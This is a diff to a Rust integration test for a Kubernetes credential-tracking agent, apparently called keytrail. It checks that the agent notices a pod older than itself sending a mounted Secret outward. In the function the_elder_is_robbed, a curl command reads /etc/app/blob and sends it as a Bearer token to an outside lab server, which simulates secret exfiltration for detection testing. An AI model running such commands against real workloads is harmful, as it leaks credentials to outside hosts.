@@ -138,10 +138,92 @@ fn the_chart_and_a_stolen_token() -> Result<()> {
     })
 }
 
+/// A pod with a Secret at a place that says nothing of it, as it is before there is any agent.
+const ELDER: &str = r#"apiVersion: v1
+kind: Namespace
+metadata: { name: elder }
+---
+apiVersion: v1
+kind: Secret
+metadata: { name: app, namespace: elder }
+stringData: { blob: FAKE-older-than-the-agent-0002 }
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: { name: vault, namespace: elder }
+spec:
+  selector: { matchLabels: { app: vault } }
+  template:
+    metadata: { labels: { app: vault } }
+    spec:
+      terminationGracePeriodSeconds: 1
+      volumes: [ { name: app, secret: { secretName: app } } ]
+      containers:
+        - name: vault
+          image: lab.example/curl:1
+          command: [/bin/sh, -c, "while :; do sleep 100; done"]
+          volumeMounts: [ { name: app, mountPath: /etc/app } ]
+"#;
+
+/// What is taken out of a pod that is older than the agent, by somebody in it.
+fn the_elder_is_robbed(cluster: &Cluster, outside: &WebServer) -> Result<()> {
+    let pod = cluster.await_pod("elder", "app=vault")?;
+    let steal = format!(
+        "curl -sk -o /dev/null -H \"Authorization: Bearer $(cat /etc/app/blob)\" https://{}/",
+        outside.address
+    );
+    let seen = wait_for("what a pod older than the agent lost", LIMIT, || {
+        cluster.kubectl(&[
+            "exec",
+            "--namespace=elder",
+            &pod,
+            "--",
+            "/bin/sh",
+            "-c",
+            &steal,
+        ])?;
+        let known = ask(cluster, &["inventory"])?;
+        let known = known["credentials"].as_array().cloned().unwrap_or_default();
+        let is_blob = |item: &&Value| {
+            item["sources"].as_array().is_some_and(|sources| {
+                sources.iter().any(|source| {
+                    source["source"] == "file"
+                        && source["place"]
+                            .as_str()
+                            .is_some_and(|place| place.ends_with("/blob"))
+                })
+            })
+        };
+        let Some(id) = known
+            .iter()
+            .find(is_blob)
+            .and_then(|item| item["id"].as_str())
+        else {
+            return Ok(None);
+        };
+        let answer = ask(cluster, &["query", "where", id])?;
+        let hops = answer["hops"].as_array().cloned().unwrap_or_default();
+        Ok(hops
+            .into_iter()
+            .find(|hop| hop["workload"]["pod"] == pod.as_str() && hop["evidence"] == "presented"))
+    })?;
+    println!(
+        "a Secret older than the agent: presented by {} at {}",
+        seen["workload"]["name"], seen["destination"]["address"]
+    );
+    assert_eq!(seen["destination"]["address"], NODE, "{seen:#}");
+    Ok(())
+}
+
 fn the_token_is_found(cluster: &Cluster) -> Result<()> {
     let containerd = cluster.containerd.as_ref().context("containerd runs")?;
+    // An agent of the host, that is there while images are unpacked and pods start and end.
+    let directory = tempfile::tempdir()?;
+    let mut beside = lab::agent::Agent::start(directory.path(), &[])?;
     containerd.import(IMAGE, &[&lab::agent::binary()?])?;
     containerd.import(CURL, &[Path::new("/usr/bin/curl")])?;
+    cluster.apply(ELDER)?;
+    cluster.await_pod("elder", "app=vault")?;
     let chart = format!("{}/../deploy/helm/keytrail", env!("CARGO_MANIFEST_DIR"));
     let (repository, tag) = IMAGE.split_once(':').context("an image")?;
     cluster.run(
@@ -153,7 +235,11 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
             "--namespace=keytrail",
             "--create-namespace",
             "--set",
-            &format!("image.repository={repository},image.tag={tag}"),
+            // A state directory of its own: `keytrail` in the pod finds it.
+            &format!(
+                "image.repository={repository},image.tag={tag},stateDir={}",
+                directory.path().join("of-the-chart").display()
+            ),
         ],
     )?;
     cluster.await_pod("keytrail", "app.kubernetes.io/name=keytrail")?;
@@ -176,6 +262,16 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
     println!("{shown}");
 
     let outside = WebServer::start(NODE)?;
+    the_elder_is_robbed(cluster, &outside)?;
+    let doctor = cluster.kubectl(&[
+        "exec",
+        "--namespace=keytrail",
+        "daemonset/keytrail",
+        "--",
+        "keytrail",
+        "doctor",
+    ])?;
+    ensure!(doctor.contains("self-test"), "{doctor}");
     let shared = tempfile::tempdir()?;
     cluster.apply(&owner(shared.path()))?;
     let api = cluster.await_pod("payments", "app=api")?;
@@ -248,6 +344,8 @@ fn the_token_is_found(cluster: &Cluster) -> Result<()> {
         }),
         "{found:#?}"
     );
+    ensure!(beside.get("/healthz")?.0 == 200, "{}", beside.log_text());
+    ensure!(beside.stop()?.success());
     let nodes = cluster.get(&["nodes", NODE_NAME])?;
     println!(
         "Kubernetes {}: {summary}",
